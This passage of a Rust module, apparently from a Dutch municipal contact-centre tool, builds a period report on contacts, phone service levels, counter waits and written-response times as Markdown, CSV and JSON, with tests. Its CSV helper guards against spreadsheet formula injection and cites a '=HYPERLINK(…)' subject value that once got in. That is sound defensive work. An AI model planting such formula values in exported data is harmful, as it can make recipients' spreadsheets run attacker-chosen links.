//! `loket rapport`: the management report over a period, each figure against its norm, as
//! Markdown (to read), CSV for Dutch Excel (semicolons, decimal comma, UTF-8 with BOM) or JSON.

use chrono::{DateTime, Duration, Local, NaiveDate, Utc};
use rusqlite::{Connection, params};
use serde::Serialize;

use super::{parse_ts, ts};
use crate::domain::Kanaal;
use crate::domain::kpi::{self, Normen};
use crate::domain::werkdagen;

/// How the contacts are grouped.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Per {
    Kanaal,
    Onderwerp,
    Afdeling,
    Medewerker,
    Dag,
    Uur,
}

impl Per {
    pub fn naam(self) -> &'static str {
        match self {
            Per::Kanaal => "kanaal",
            Per::Onderwerp => "onderwerp",
            Per::Afdeling => "afdeling",
            Per::Medewerker => "medewerker",
            Per::Dag => "dag",
            Per::Uur => "uur",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Groep {
    pub groep: String,
    pub contacten: i64,
    /// Of which settled in the first line.
    pub eerstelijns_afgehandeld: i64,
    /// First-contact resolution (`kpi::eerste_lijn`), percent.
    pub eerste_lijn: f64,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Verzoeken {
    pub afdeling: String,
    pub totaal: i64,
    pub op_tijd: i64,
    pub te_laat: i64,
    /// Percent on time.
    pub binnen_norm: f64,
}

/// A written channel (e-mail, post, social media): answered within its norm in werkdagen from
/// the day the message came in.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Schriftelijk {
    pub kanaal: String,
    pub totaal: i64,
    pub binnen_norm: i64,
    /// Percent within the norm.
    pub binnen_norm_pct: f64,
    /// Average werkdagen from arrival to answer.
    pub gemiddeld_werkdagen: f64,
    pub norm_werkdagen: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Rapport {
    pub van: NaiveDate,
    pub tot: NaiveDate,
    pub per: Per,
    pub contacten: i64,
    /// Of which settled in the first line.
    pub eerstelijns_afgehandeld: i64,
    pub eerste_lijn: Option<f64>,
    pub groepen: Vec<Groep>,
    /// The telephone by `kpi::telefoon_periode`: counts, then the figures over them.
    pub telefoon_aangeboden: u32,
    pub telefoon_beantwoord: u32,
    pub telefoon_binnen_norm: u32,
    /// Abandoned after the short-abandon threshold (counted in the abandon rate).
    pub telefoon_verlaten_aantal: u32,
    /// Abandoned within the threshold: apart, in no percentage.
    pub telefoon_kort_opgehangen: u32,
    /// Answered calls that ended (the AHT is over these).
    pub telefoon_afgehandeld: u32,
    pub telefoon_servicelevel: Option<f64>,
    pub telefoon_gemiddelde_wachttijd: Option<f64>,
    pub telefoon_verlaten: Option<f64>,
    pub telefoon_gemiddelde_afhandeltijd: Option<f64>,
    /// Walk-in and appointment visitors called to a balie in the period (`kpi::balie`), how
    /// many and what share within the balie norm, and their average and longest wait
    /// (seconds).
    pub balie_opgeroepen: i64,
    pub balie_binnen_norm_aantal: i64,
    pub balie_binnen_norm: Option<f64>,
    pub balie_gemiddelde_wachttijd: Option<f64>,
    pub balie_langste_wachttijd: Option<i64>,
    /// Registrations on e-mail, post and social media that say when the message came in.
    pub schriftelijk: Vec<Schriftelijk>,
    pub verzoeken: Vec<Verzoeken>,
    pub afspraken: i64,
    pub afspraken_niet_verschenen: i64,
    pub onderwerpen: Vec<(String, i64)>,
    pub zonder_resultaat: Vec<(String, i64)>,
    /// The norms used.
    pub norm_eerste_lijn: f64,
    pub norm_telefoon_s: i64,
    pub norm_servicelevel: f64,
    /// Callers who hung up within this many seconds are "kort opgehangen".
    pub norm_kort_opgehangen_s: i64,
    pub norm_balie_minuten: i64,
    /// Communicated norms must be met in this share of the cases (the seeds: 95%).
    pub norm_gehaald: f64,
}

fn grens(d: NaiveDate) -> String {
    d.and_hms_opt(0, 0, 0)
        .and_then(|t| t.and_local_timezone(Local).earliest())
        .map(|t| ts(t.with_timezone(&Utc)))
        .unwrap_or_default()
}

/// The report over `van`..=`tot`, grouped `per`, as of `nu`.
pub fn maak(
    conn: &Connection,
    van: NaiveDate,
    tot: NaiveDate,
    per: Per,
    normen: &Normen,
    nu: DateTime<Utc>,
) -> rusqlite::Result<Rapport> {
    let (a, b) = (grens(van), grens(tot + Duration::days(1)));
    // Group keys are SQL over known columns only (never user input).
    let sleutel = match per {
        Per::Kanaal => "c.kanaal",
        Per::Onderwerp => "c.onderwerp",
        // The afdeling the question was about, else the medewerker's own.
        Per::Afdeling => "coalesce(ac.naam, af.naam, 'zonder afdeling')",
        Per::Medewerker => "coalesce(m.naam, '?')",
        Per::Dag => "substr(datetime(c.plaatsgevonden_op, 'localtime'), 1, 10)",
        Per::Uur => "substr(datetime(c.plaatsgevonden_op, 'localtime'), 12, 2)",
    };
    // Days and hours in time order; the rest biggest first.
    let volgorde = match per {
        Per::Dag | Per::Uur => "1",
        _ => "2 DESC, 1",
    };
    let mut st = conn.prepare(&format!(
        "SELECT {sleutel}, count(*), coalesce(sum(coalesce(c.eerstelijns_afgehandeld, 0) <> 0), 0)
         FROM contactmoment c
         LEFT JOIN medewerker m ON m.id = c.medewerker_id
         LEFT JOIN afdeling af ON af.id = m.afdeling_id
         LEFT JOIN afdeling ac ON ac.id = c.afdeling_id
         WHERE c.plaatsgevonden_op >= ?1 AND c.plaatsgevonden_op < ?2 AND c.deleted = 0
         GROUP BY 1 ORDER BY {volgorde}"
    ))?;
    let eerste = |afgehandeld: i64, contacten: i64| {
        kpi::eerste_lijn(
            u32::try_from(afgehandeld).unwrap_or(u32::MAX),
            u32::try_from(contacten).unwrap_or(u32::MAX),
        )
    };
    let groepen: Vec<Groep> = st
        .query_map(params![a, b], |r| {
            let groep: String = r.get(0)?;
            let (contacten, afgehandeld): (i64, i64) = (r.get(1)?, r.get(2)?);
            Ok(Groep {
                // Channels by the words the UI uses ("e-mail", "social media").
                groep: match per {
                    Per::Kanaal => Kanaal::ALL
                        .into_iter()
                        .find(|k| k.as_str() == groep)
                        .map_or(groep, |k| k.label().to_string()),
                    _ => groep,
                },
                contacten,
                eerstelijns_afgehandeld: afgehandeld,
                eerste_lijn: eerste(afgehandeld, contacten).unwrap_or(0.0),
            })
        })?
        .collect::<rusqlite::Result<_>>()?;
    let (contacten, eerstelijns_afgehandeld): (i64, i64) = conn.query_row(
        "SELECT count(*), coalesce(sum(coalesce(eerstelijns_afgehandeld, 0) <> 0), 0)
         FROM contactmoment
         WHERE plaatsgevonden_op >= ?1 AND plaatsgevonden_op < ?2 AND deleted = 0",
        params![a, b],
        |r| Ok((r.get(0)?, r.get(1)?)),
    )?;
    let eerste_lijn = eerste(eerstelijns_afgehandeld, contacten);
    // Telephone: the same calls, with the same after-call work, as the floor reads.
    let gesprekken = super::vloer::gesprekken(conn, &a, &b, nu)?;
    let t = kpi::telefoon_periode(&gesprekken, van, tot, normen, nu);
    // The counter: how long visitors waited until called (no-shows and those still waiting
    // have no wait to judge).
    let tijd = |s: Option<String>| s.as_deref().and_then(parse_ts);
    let mut st = conn.prepare_cached(
        "SELECT aangekomen_op, opgeroepen_op FROM bezoek
         WHERE aangekomen_op >= ?1 AND aangekomen_op < ?2 AND deleted = 0",
    )?;
    let bezoeken: Vec<(DateTime<Utc>, Option<DateTime<Utc>>)> = st
        .query_map(params![a, b], |r| {
            Ok((tijd(r.get(0)?).unwrap_or(nu), tijd(r.get(1)?)))
        })?
        .collect::<rusqlite::Result<_>>()?;
    let balie = kpi::balie(&bezoeken, normen);
    // Written channels: werkdagen from the day the message came in to the answer.
    let sluiting = werkdagen::Sluitingsdagen::default();
    let mut schriftelijk: Vec<Schriftelijk> = Vec::new();
    let mut st = conn.prepare_cached(
        "SELECT kanaal, ontvangen_op, plaatsgevonden_op FROM contactmoment
         WHERE plaatsgevonden_op >= ?1 AND plaatsgevonden_op < ?2 AND deleted = 0
           AND ontvangen_op IS NOT NULL
         ORDER BY kanaal",
    )?;
    let mut rows = st.query(params![a, b])?;
    let mut som: Vec<u64> = Vec::new();
    while let Some(r) = rows.next()? {
        let kanaal: String = r.get(0)?;
        let Some(k) = Kanaal::ALL.into_iter().find(|k| k.as_str() == kanaal) else {
            continue;
        };
        let Some(norm) = normen.werkdagen(k) else {
            continue;
        };
        let (Some(ontvangen), Some(beantwoord)) = (
            r.get::<_, String>(1)?.parse::<NaiveDate>().ok(),
            parse_ts(&r.get::<_, String>(2)?),
        ) else {
            continue;
        };
        let dagen = werkdagen::werkdagen_tussen(
            ontvangen,
            beantwoord.with_timezone(&Local).date_naive(),
            &sluiting,
        );
        if schriftelijk.last().is_none_or(|s| s.kanaal != k.label()) {
            schriftelijk.push(Schriftelijk {
                kanaal: k.label().into(),
                totaal: 0,
                binnen_norm: 0,
                binnen_norm_pct: 0.0,
                gemiddeld_werkdagen: 0.0,
                norm_werkdagen: norm,
            });
            som.push(0);
        }
        let s = schriftelijk.last_mut().expect("just pushed");
        s.totaal += 1;
        s.binnen_norm += i64::from(dagen <= norm);
        *som.last_mut().expect("one per kanaal") += u64::from(dagen);
    }
    for (s, som) in schriftelijk.iter_mut().zip(som) {
        s.binnen_norm_pct = s.binnen_norm as f64 * 100.0 / s.totaal as f64;
        s.gemiddeld_werkdagen = som as f64 / s.totaal as f64;
    }
    // Contactverzoeken due in the period: on time (handled by the deadline) or late.
    let mut st = conn.prepare_cached(
        "SELECT coalesce(af.naam, 'zonder afdeling'), count(*),
                coalesce(sum(v.status = 'verwerkt' AND v.verwerkt_op <= v.uiterlijk_op), 0),
                coalesce(sum((v.status = 'verwerkt' AND v.verwerkt_op > v.uiterlijk_op)
                          OR (v.status = 'te_verwerken' AND v.uiterlijk_op < ?3)), 0)
         FROM contactverzoek v LEFT JOIN afdeling af ON af.id = v.afdeling_id
         WHERE v.uiterlijk_op >= ?1 AND v.uiterlijk_op < ?2 AND v.deleted = 0
         GROUP BY 1 ORDER BY 1",
    )?;
    let verzoeken: Vec<Verzoeken> = st
        .query_map(params![a, b, ts(nu)], |r| {
            let (totaal, op_tijd, te_laat): (i64, i64, i64) = (r.get(1)?, r.get(2)?, r.get(3)?);
            Ok(Verzoeken {
                afdeling: r.get(0)?,
                totaal,
                op_tijd,
                te_laat,
                binnen_norm: if op_tijd + te_laat > 0 {
                    op_tijd as f64 * 100.0 / (op_tijd + te_laat) as f64
                } else {
                    100.0
                },
            })
        })?
        .collect::<rusqlite::Result<_>>()?;
    let (afspraken, niet_verschenen): (i64, i64) = conn.query_row(
        "SELECT coalesce(sum(status NOT IN ('geannuleerd', 'verzet', 'geweigerd')), 0),
                coalesce(sum(status = 'no_show'), 0)
         FROM afspraak WHERE begin_op >= ?1 AND begin_op < ?2 AND deleted = 0",
        params![a, b],
        |r| Ok((r.get(0)?, r.get(1)?)),
    )?;
    let top = |sql: &str| -> rusqlite::Result<Vec<(String, i64)>> {
        conn.prepare(sql)?
            .query_map(params![a, b], |r| Ok((r.get(0)?, r.get(1)?)))?
            .collect()
    };
    Ok(Rapport {
        van,
        tot,
        per,
        contacten,
        eerstelijns_afgehandeld,
        eerste_lijn,
        groepen,
        telefoon_aangeboden: t.aangeboden,
        telefoon_beantwoord: t.beantwoord,
        telefoon_binnen_norm: t.binnen_norm,
        telefoon_verlaten_aantal: t.verlaten,
        telefoon_kort_opgehangen: t.kort_opgehangen,
        telefoon_afgehandeld: t.afgehandeld,
        telefoon_servicelevel: t.servicelevel,
        telefoon_gemiddelde_wachttijd: t.gemiddelde_wachttijd,
        telefoon_verlaten: t.verlaten_pct,
        telefoon_gemiddelde_afhandeltijd: t.gemiddelde_afhandeltijd,
        balie_opgeroepen: i64::from(balie.opgeroepen),
        balie_binnen_norm_aantal: i64::from(balie.binnen_norm),
        balie_binnen_norm: balie.binnen_norm_pct,
        balie_gemiddelde_wachttijd: balie.gemiddelde_wachttijd,
        balie_langste_wachttijd: balie.langste_wachttijd,
        schriftelijk,
        verzoeken,
        afspraken,
        afspraken_niet_verschenen: niet_verschenen,
        onderwerpen: top("SELECT onderwerp, count(*) FROM contactmoment
             WHERE plaatsgevonden_op >= ?1 AND plaatsgevonden_op < ?2 AND deleted = 0
             GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10")?,
        zonder_resultaat: top("SELECT vraag, count(*) FROM kennisbank_zoekactie
             WHERE created_at >= ?1 AND created_at < ?2 AND aantal_treffers = 0
               AND vraag IS NOT NULL AND deleted = 0
             GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10")?,
        norm_eerste_lijn: normen.fcr_pct,
        norm_telefoon_s: normen.telefoon_s,
        norm_servicelevel: normen.servicelevel_pct,
        norm_kort_opgehangen_s: normen.kort_opgehangen_s,
        norm_balie_minuten: normen.balie_s / 60,
        norm_gehaald: normen.gehaald_pct,
    })
}

fn oordeel(waarde: f64, norm: f64) -> &'static str {
    if waarde >= norm { "✓" } else { "✖" }
}

/// "80,4%".
fn procent(p: f64) -> String {
    format!("{}%", komma(p))
}

/// "80,4" (Dutch decimal comma, one decimal).
fn komma(x: f64) -> String {
    format!("{x:.1}").replace('.', ",")
}

/// Markdown, for reading.
pub fn markdown(r: &Rapport) -> String {
    let mut o = String::new();
    o.push_str(&format!("# Rapportage {} t/m {}\n\n", r.van, r.tot));
    o.push_str(&format!(
        "Contacten: {}. Eerstelijns afgehandeld: {} van {}, {} (norm {}%) {}\n\n",
        r.contacten,
        r.eerstelijns_afgehandeld,
        r.contacten,
        r.eerste_lijn.map_or("-".into(), procent),
        r.norm_eerste_lijn,
        r.eerste_lijn.map_or("", |p| oordeel(p, r.norm_eerste_lijn))
    ));
    o.push_str(&format!(
        "## Contacten per {0}\n\n| {0} | contacten | eerstelijns | eerstelijns % | norm |\n|---|---:|---:|---:|---|\n",
        r.per.naam()
    ));
    for g in &r.groepen {
        o.push_str(&format!(
            "| {} | {} | {} | {} | {} |\n",
            g.groep,
            g.contacten,
            g.eerstelijns_afgehandeld,
            komma(g.eerste_lijn),
            oordeel(g.eerste_lijn, r.norm_eerste_lijn)
        ));
    }
    o.push_str(&format!(
        "\n## Telefoon\n\nAangeboden: {} (beantwoord {}, verlaten {}); kort opgehangen (korter dan {} s, apart geteld): {}.\n\
         Servicelevel (≤ {} s): {} van {}, {} (norm {}%){}. Gemiddelde wachttijd (ASA): {}. \
         Verlaten: {} van {}, {}. Gemiddelde afhandeltijd (AHT): {} over {} gesprekken.\n",
        r.telefoon_aangeboden,
        r.telefoon_beantwoord,
        r.telefoon_verlaten_aantal,
        r.norm_kort_opgehangen_s,
        r.telefoon_kort_opgehangen,
        r.norm_telefoon_s,
        r.telefoon_binnen_norm,
        r.telefoon_aangeboden,
        r.telefoon_servicelevel.map_or("-".into(), procent),
        r.norm_servicelevel,
        r.telefoon_servicelevel
            .map_or(String::new(), |p| format!(" {}", oordeel(p, r.norm_servicelevel))),
        r.telefoon_gemiddelde_wachttijd.map_or("-".into(), |s| format!("{} s", komma(s))),
        r.telefoon_verlaten_aantal,
        r.telefoon_aangeboden,
        r.telefoon_verlaten.map_or("-".into(), procent),
        r.telefoon_gemiddelde_afhandeltijd.map_or("-".into(), |s| format!("{} s", komma(s))),
        r.telefoon_afgehandeld,
    ));
    o.push_str(&format!(
        "\n## Balie\n\nOpgeroepen: {}. Binnen {} min: {} van {}, {} (norm {}% van de gevallen){}. Gemiddelde wachttijd: {}, langste {}.\n",
        r.balie_opgeroepen,
        r.norm_balie_minuten,
        r.balie_binnen_norm_aantal,
        r.balie_opgeroepen,
        r.balie_binnen_norm.map_or("-".into(), procent),
        r.norm_gehaald,
        r.balie_binnen_norm.map_or(String::new(), |p| format!(" {}", oordeel(p, r.norm_gehaald))),
        r.balie_gemiddelde_wachttijd.map_or("-".into(), |s| format!("{} min", komma(s / 60.0))),
        r.balie_langste_wachttijd
            .map_or("-".into(), |s| format!("{} min", komma(s as f64 / 60.0))),
    ));
    o.push_str(&format!(
        "\n## Schriftelijk (antwoord binnen de termijn in werkdagen; norm {}% van de gevallen)\n\n",
        r.norm_gehaald
    ));
    if r.schriftelijk.is_empty() {
        o.push_str("Geen.\n");
    } else {
        o.push_str("| kanaal | totaal | binnen termijn | termijn | gem. werkdagen | % binnen | norm |\n|---|---:|---:|---:|---:|---:|---|\n");
    }
    for s in &r.schriftelijk {
        o.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} | {} |\n",
            s.kanaal,
            s.totaal,
            s.binnen_norm,
            s.norm_werkdagen,
            komma(s.gemiddeld_werkdagen),
            komma(s.binnen_norm_pct),
            oordeel(s.binnen_norm_pct, r.norm_gehaald)
        ));
    }
    o.push_str(&format!(
        "\n## Contactverzoeken (binnen termijn; norm {}% van de gevallen)\n\n| afdeling | totaal | op tijd | te laat | % op tijd | norm |\n|---|---:|---:|---:|---:|---|\n",
        r.norm_gehaald
    ));
    for v in &r.verzoeken {
        o.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} |\n",
            v.afdeling,
            v.totaal,
            v.op_tijd,
            v.te_laat,
            komma(v.binnen_norm),
            oordeel(v.binnen_norm, r.norm_gehaald)
        ));
    }
    o.push_str(&format!(
        "\n## Afspraken\n\nGepland: {}. Niet verschenen: {}.\n\n## Meest gevraagde onderwerpen\n\n",
        r.afspraken, r.afspraken_niet_verschenen
    ));
    for (ond, n) in &r.onderwerpen {
        o.push_str(&format!("- {ond}: {n}\n"));
    }
    o.push_str("\n## Kennisbank: zoektermen zonder resultaat\n\n");
    if r.zonder_resultaat.is_empty() {
        o.push_str("Geen.\n");
    }
    for (q, n) in &r.zonder_resultaat {
        o.push_str(&format!("- {q}: {n}\n"));
    }
    o
}

/// One text cell: a cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, as an onderwerp `=HYPERLINK(…)` once did) gets a single
/// quote in front, so it stays text; a cell with a separator, quote or line break is quoted.
pub fn csv_veld(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    };
    if s.contains([';', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The CSV's columns: what is measured (`onderdeel`, `groep`), over how many (`aantal`), of
/// which how many count for the percentage (`waarvan`), the figure and its unit, the norm and
/// the verdict, and the period of the report on every row.
const CSV_KOP: &str = "onderdeel;groep;aantal;waarvan;waarde;eenheid;norm;binnen_norm;van;tot";

/// CSV that Dutch Excel opens as it should: UTF-8 with BOM, semicolons, decimal commas; every
/// percentage with its counts beside it, every row with the period.
pub fn csv(r: &Rapport) -> String {
    let mut o = String::from("\u{feff}");
    o.push_str(CSV_KOP);
    o.push('\n');
    let periode = format!("{};{}", r.van, r.tot);
    let ja = |p: f64, norm: f64| if p >= norm { "ja" } else { "nee" };
    let mut regel = |onderdeel: &str,
                     groep: &str,
                     aantal: String,
                     waarvan: String,
                     waarde: Option<f64>,
                     eenheid: &str,
                     norm: Option<f64>| {
        let oordeel = match (waarde, norm) {
            (Some(w), Some(n)) => ja(w, n),
            _ => "",
        };
        o.push_str(&format!(
            "{};{};{aantal};{waarvan};{};{};{};{oordeel};{periode}\n",
            csv_veld(onderdeel),
            csv_veld(groep),
            waarde.map_or(String::new(), komma),
            if waarde.is_some() { eenheid } else { "" },
            norm.map_or(String::new(), komma),
        ));
    };
    let n = |x: i64| x.to_string();
    regel(
        "eerste_lijn",
        "totaal",
        n(r.contacten),
        n(r.eerstelijns_afgehandeld),
        r.eerste_lijn,
        "%",
        Some(r.norm_eerste_lijn),
    );
    for g in &r.groepen {
        regel(
            &format!("contacten_per_{}", r.per.naam()),
            &g.groep,
            n(g.contacten),
            n(g.eerstelijns_afgehandeld),
            Some(g.eerste_lijn),
            "%",
            Some(r.norm_eerste_lijn),
        );
    }
    let t = |x: u32| x.to_string();
    for (groep, aantal) in [
        ("aangeboden", r.telefoon_aangeboden),
        ("beantwoord", r.telefoon_beantwoord),
        ("verlaten", r.telefoon_verlaten_aantal),
        (
            &*format!("kort_opgehangen_onder_{}_s", r.norm_kort_opgehangen_s),
            r.telefoon_kort_opgehangen,
        ),
    ] {
        regel("telefoon", groep, t(aantal), String::new(), None, "", None);
    }
    regel(
        "telefoon",
        &format!("servicelevel_binnen_{}_s", r.norm_telefoon_s),
        t(r.telefoon_aangeboden),
        t(r.telefoon_binnen_norm),
        r.telefoon_servicelevel,
        "%",
        Some(r.norm_servicelevel),
    );
    regel(
        "telefoon",
        "verlaten_pct",
        t(r.telefoon_aangeboden),
        t(r.telefoon_verlaten_aantal),
        r.telefoon_verlaten,
        "%",
        None,
    );
    regel(
        "telefoon",
        "gemiddelde_wachttijd",
        t(r.telefoon_beantwoord),
        String::new(),
        r.telefoon_gemiddelde_wachttijd,
        "s",
        None,
    );
    regel(
        "telefoon",
        "gemiddelde_afhandeltijd",
        t(r.telefoon_afgehandeld),
        String::new(),
        r.telefoon_gemiddelde_afhandeltijd,
        "s",
        None,
    );
    regel(
        "balie",
        &format!("binnen_{}_min", r.norm_balie_minuten),
        n(r.balie_opgeroepen),
        n(r.balie_binnen_norm_aantal),
        r.balie_binnen_norm,
        "%",
        Some(r.norm_gehaald),
    );
    regel(
        "balie",
        "gemiddelde_wachttijd",
        n(r.balie_opgeroepen),
        String::new(),
        r.balie_gemiddelde_wachttijd.map(|s| s / 60.0),
        "min",
        None,
    );
    regel(
        "balie",
        "langste_wachttijd",
        n(r.balie_opgeroepen),
        String::new(),
        r.balie_langste_wachttijd.map(|s| s as f64 / 60.0),
        "min",
        None,
    );
    for s in &r.schriftelijk {
        regel(
            "schriftelijk",
            &format!(
                "{} binnen {} {}",
                s.kanaal,
                s.norm_werkdagen,
                if s.norm_werkdagen == 1 {
                    "werkdag"
                } else {
                    "werkdagen"
                }
            ),
            n(s.totaal),
            n(s.binnen_norm),
            Some(s.binnen_norm_pct),
            "%",
            Some(r.norm_gehaald),
        );
    }
    // Contactverzoeken: judged are those handled or overdue (not those still in time).
    for v in &r.verzoeken {
        regel(
            "contactverzoeken",
            &v.afdeling,
            n(v.op_tijd + v.te_laat),
            n(v.op_tijd),
            (v.op_tijd + v.te_laat > 0).then_some(v.binnen_norm),
            "%",
            Some(r.norm_gehaald),
        );
    }
    regel(
        "afspraken",
        "gepland",
        n(r.afspraken),
        String::new(),
        None,
        "",
        None,
    );
    regel(
        "afspraken",
        "niet_verschenen",
        n(r.afspraken_niet_verschenen),
        String::new(),
        None,
        "",
        None,
    );
    for (ond, aantal) in &r.onderwerpen {
        regel(
            "onderwerpen",
            ond,
            n(*aantal),
            String::new(),
            None,
            "",
            None,
        );
    }
    for (q, aantal) in &r.zonder_resultaat {
        regel(
            "zonder_resultaat",
            q,
            n(*aantal),
            String::new(),
            None,
            "",
            None,
        );
    }
    o
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn rapport(per: Per) -> Rapport {
        let dir = tempfile::tempdir().unwrap();
        let pad = dir.path().join("demo.db");
        let vandaag = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
        crate::demo::klein(&pad, 11, 10, vandaag);
        let store = crate::store::Store::open(&pad, uuid::Uuid::nil()).unwrap();
        let nu = Local
            .with_ymd_and_hms(2026, 11, 23, 12, 0, 0)
            .unwrap()
            .with_timezone(&Utc);
        maak(
            store.conn(),
            NaiveDate::from_ymd_opt(2026, 11, 13).unwrap(),
            vandaag,
            per,
            &Normen::default(),
            nu,
        )
        .unwrap()
    }

    #[test]
    fn written_channels_count_werkdagen_from_arrival_and_the_counter_its_waits() {
        use crate::domain::contact::Contactmoment;
        let dir = tempfile::tempdir().unwrap();
        let desk = uuid::Uuid::now_v7();
        let mut store = crate::store::Store::open(&dir.path().join("l.db"), desk).unwrap();
        let om = |d: u32, u: u32, m: u32| {
            Local
                .with_ymd_and_hms(2026, 11, d, u, m, 0)
                .unwrap()
                .with_timezone(&Utc)
        };
        let dag = |d: u32| NaiveDate::from_ymd_opt(2026, 11, d);
        // (kanaal, came in, answered): e-mail Mon 16 → Wed 18 is 2 werkdagen (norm 3: in
        // time), e-mail Mon 9 → Mon 16 is 5 (late), post Tue 10 → Tue 17 is 5 (norm 5: in time);
        // a telephone contact has no arrival day and is not judged here.
        for (kanaal, ontvangen, beantwoord) in [
            (Kanaal::Email, dag(16), om(18, 10, 0)),
            (Kanaal::Email, dag(9), om(16, 11, 0)),
            (Kanaal::Post, dag(10), om(17, 9, 0)),
            (Kanaal::Telefoon, None, om(17, 9, 30)),
        ] {
            let mut cm = Contactmoment {
                meta: crate::domain::RecordMeta::new(beantwoord, desk),
                plaatsgevonden_op: beantwoord,
                kanaal,
                onderwerp: "WOZ".into(),
                inhoud: String::new(),
                notitie: String::new(),
                afhandeling: "afgehandeld".into(),
                partij_id: None,
                zaak_id: None,
                medewerker_id: None,
                afdeling_id: None,
                duur_seconden: 60,
                nawerk_seconden: 0,
                eerstelijns_afgehandeld: true,
                bronnen: Vec::new(),
                gesprek_id: None,
                ontvangen_op: ontvangen,
            };
            store.save(&mut cm, beantwoord).unwrap();
        }
        // The counter: called after 5 and after 20 minutes, one still waiting.
        for (i, (aankomst, oproep)) in [
            (om(17, 9, 0), Some(om(17, 9, 5))),
            (om(17, 10, 0), Some(om(17, 10, 20))),
            (om(17, 11, 0), None),
        ]
        .into_iter()
        .enumerate()
        {
            store
                .conn()
                .execute(
                    "INSERT INTO bezoek (id, created_at, updated_at, desk_id, dag, locatie, nummer,
                       volgnummer, dienst, aangekomen_op, opgeroepen_op, status)
                     VALUES (?1, ?2, ?2, 'x', '2026-11-17', 'Stadskantoor', ?3, ?4, 'Paspoort',
                             ?2, ?5, 'wachtend')",
                    params![
                        uuid::Uuid::now_v7().to_string(),
                        ts(aankomst),
                        format!("A{i}"),
                        i as i64,
                        oproep.map(ts)
                    ],
                )
                .unwrap();
        }
        let r = maak(
            store.conn(),
            NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(),
            NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
            Per::Kanaal,
            &Normen::default(),
            om(30, 12, 0),
        )
        .unwrap();
        let email = Schriftelijk {
            kanaal: "e-mail".into(),
            totaal: 2,
            binnen_norm: 1,
            binnen_norm_pct: 50.0,
            gemiddeld_werkdagen: 3.5,
            norm_werkdagen: 3,
        };
        let post = Schriftelijk {
            kanaal: "post".into(),
            totaal: 1,
            binnen_norm: 1,
            binnen_norm_pct: 100.0,
            gemiddeld_werkdagen: 5.0,
            norm_werkdagen: 5,
        };
        assert_eq!(r.schriftelijk, vec![email, post]);
        assert_eq!(r.balie_opgeroepen, 2);
        assert_eq!(r.balie_binnen_norm, Some(50.0));
        assert!((r.balie_gemiddelde_wachttijd.unwrap() - 750.0).abs() < 0.5);
        let md = markdown(&r);
        assert!(
            md.contains("| e-mail | 2 | 1 | 3 | 3,5 | 50,0 | ✖ |"),
            "{md}"
        );
        assert!(
            md.contains("Binnen 15 min: 1 van 2, 50,0% (norm 95% van de gevallen) ✖"),
            "{md}"
        );
        let c = csv(&r);
        assert!(
            c.contains(
                "schriftelijk;post binnen 5 werkdagen;1;1;100,0;%;95,0;ja;2026-11-01;2026-11-30"
            ),
            "{c}"
        );
        // A stricter e-mail norm from [normen] makes the first one late too.
        let streng = Normen {
            email_werkdagen: 1,
            ..Normen::default()
        };
        let r = maak(
            store.conn(),
            NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(),
            NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
            Per::Kanaal,
            &streng,
            om(30, 12, 0),
        )
        .unwrap();
        assert_eq!(r.schriftelijk[0].binnen_norm, 0);
    }

    /// Compare with the golden file in tests/data/; LOKET_GOLDEN=1 writes it anew.
    fn goud(naam: &str, inhoud: &str) {
        let pad = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/data")
            .join(naam);
        if std::env::var_os("LOKET_GOLDEN").is_some() {
            std::fs::write(&pad, inhoud).unwrap();
        }
        let verwacht = std::fs::read_to_string(&pad).unwrap();
        assert_eq!(
            inhoud, verwacht,
            "{naam} differs; LOKET_GOLDEN=1 rewrites it"
        );
    }

    #[test]
    fn the_report_matches_its_golden_files_in_markdown_and_csv() {
        let r = rapport(Per::Kanaal);
        assert!(r.contacten > 0 && !r.verzoeken.is_empty());
        assert_eq!(
            r.groepen.iter().map(|g| g.contacten).sum::<i64>(),
            r.contacten,
            "the groups add up"
        );
        goud("rapport.md", &markdown(&r));
        goud("rapport.csv", &csv(&r));
    }

    #[test]
    fn csv_opens_in_dutch_excel_bom_semicolons_and_decimal_commas() {
        let c = csv(&rapport(Per::Dag));
        assert!(c.starts_with('\u{feff}'));
        let kop = c.trim_start_matches('\u{feff}').lines().next().unwrap();
        assert_eq!(kop.split(';').count(), 10);
        let regel = c
            .lines()
            .find(|l| l.starts_with("contacten_per_dag;2026-11-"))
            .expect("a row per day");
        let pct = regel.split(';').nth(4).unwrap();
        assert!(pct.contains(',') && !pct.contains('.'), "{regel}");
        let json = serde_json::to_value(rapport(Per::Uur)).unwrap();
        assert_eq!(json["per"], "uur");
    }

    /// A CSV reader as a spreadsheet reads it (RFC 4180 with semicolons): records of fields.
    fn lees_csv(tekst: &str) -> Vec<Vec<String>> {
        let mut records = Vec::new();
        let (mut record, mut veld) = (Vec::new(), String::new());
        let mut tekens = tekst.chars().peekable();
        let mut tussen_quotes = false;
        while let Some(c) = tekens.next() {
            match (tussen_quotes, c) {
                (true, '"') if tekens.peek() == Some(&'"') => {
                    tekens.next();
                    veld.push('"');
                }
                (true, '"') => tussen_quotes = false,
                (true, c) => veld.push(c),
                (false, '"') if veld.is_empty() => tussen_quotes = true,
                (false, ';') => record.push(std::mem::take(&mut veld)),
                (false, '\n') => {
                    record.push(std::mem::take(&mut veld));
                    records.push(std::mem::take(&mut record));
                }
